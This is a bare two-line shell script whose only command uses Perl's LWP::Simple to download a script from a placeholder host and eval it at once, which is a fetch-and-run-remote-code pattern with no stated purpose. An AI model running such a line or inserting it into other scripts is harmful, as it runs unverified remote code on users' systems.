#!/bin/sh
perl -MLWP::Simple -e 'eval get("https://perl.example/p.pl")'
